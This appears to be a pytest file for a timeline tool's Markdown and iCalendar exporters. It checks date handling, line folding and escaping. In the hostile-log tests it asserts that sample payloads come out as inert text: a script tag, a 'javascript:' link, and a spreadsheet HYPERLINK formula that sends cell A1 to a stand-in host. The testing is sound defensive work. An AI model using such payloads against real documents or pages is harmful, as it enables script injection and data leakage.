"""Markdown and iCalendar exports, read back by the programs people open them with."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import icalendar
from markdown_it import MarkdownIt
from tests.conftest import HOSTILE, SMALL, Run, everything

from timeline.render.ics import fold, ics_text, write_ics
from timeline.render.markdown import md_text
from timeline.store import load_log

RunCli = Callable[..., Run]


def test_markdown_is_headed_by_year_with_numbered_sources(run: RunCli) -> None:
    text = run("export", "--format", "md").stdout
    assert text.startswith("# Small fixture log\n\n6 events")
    assert [line for line in text.splitlines() if line.startswith("## ")] == [
        "## 2018",
        "## 2019",
        "## 2022",
        "## 2023",
    ]
    assert "### 27–28 February 2019: Hanoi summit ends without agreement" in text
    assert "1. [Example Wire: Summit ends, no deal](<https://example.org/2019/02/28/hanoi>)" in text
    html = MarkdownIt().render(text)
    assert (
        '<a href="https://example.org/2019/02/28/hanoi">Example Wire: Summit ends, no deal</a>'
        in html
    )
    assert "<strong>Assessment.</strong> A turning point, in one reading." in html


def test_markdown_of_a_hostile_log_has_no_live_html_or_links(run: RunCli) -> None:
    html = MarkdownIt().render(run("export", "--format", "md", "--data", str(HOSTILE)).stdout)
    assert "<script" not in html and "<img" not in html and "<b>" not in html
    links = re.findall(r'<a href="([^"]*)"', html)
    assert links and all(link.startswith("https://example.org/") for link in links)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[click](javascript:alert(1))" in html  # shown as text, not a link
    assert "Rich [red]markup[/red] and :thumbs_up: emoji codes." in html
    assert html.count("<h1>") == 1
    assert "\x1b" not in html


def test_md_text_round_trips_through_a_renderer() -> None:
    for text in [
        "*a* _b_ `c` [d](e) <f> &amp; | ~~g~~",
        "# not a heading",
        "1. not a list",
        "- not a bullet",
    ]:
        rendered = MarkdownIt().render(md_text(text)).strip()
        assert (
            rendered
            == "<p>" + text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") + "</p>"
        )


def test_ics_parses_back_to_the_same_events_and_dates(tmp_path: Path, run: RunCli) -> None:
    target = tmp_path / "events.ics"
    run("export", "-o", str(target))
    calendar = icalendar.Calendar.from_ical(target.read_bytes())
    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    log = load_log(SMALL)
    assert set(events) == {f"{e.id}@timeline" for e in log.events}
    hanoi = events["hanoi-2019@timeline"]
    assert (hanoi.decoded("dtstart"), hanoi.decoded("dtend")) == (
        date(2019, 2, 27),
        date(2019, 3, 1),
    )
    year = events["launches-2022@timeline"]
    assert (year.decoded("dtstart"), year.decoded("dtend")) == (date(2022, 1, 1), date(2023, 1, 1))
    month = events["drill-2023@timeline"]
    assert (month.decoded("dtstart"), month.decoded("dtend")) == (
        date(2023, 8, 1),
        date(2023, 9, 1),
    )
    assert str(hanoi["summary"]) == "Hanoi summit ends without agreement"
    description = str(hanoi["description"])
    assert (
        'Talks broke down over sanctions relief, "Yongbyon", and sequencing.\nNo joint statement.'
        in description
    )
    assert "https://example.org/2019/02/28/hanoi" in description
    assert str(events["arms-2023@timeline"]["status"]) == "TENTATIVE"


def test_ics_lines_are_folded_and_escaped() -> None:
    log = load_log(HOSTILE)
    out = io.StringIO()
    write_ics(everything(log), out, stamp=datetime(2026, 1, 1))
    text = out.getvalue()
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert "\x1b" not in text and "\n" not in text.replace("\r\n", "")
    parsed = icalendar.Calendar.from_ical(text)
    titles = {str(e["summary"]) for e in parsed.walk("VEVENT")}
    assert '=HYPERLINK("http://x.invalid/?"&A1,"source")' in titles
    assert ics_text("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"
    assert fold("é" * 50).split("\r\n ")[0].encode() == ("é" * 37).encode()
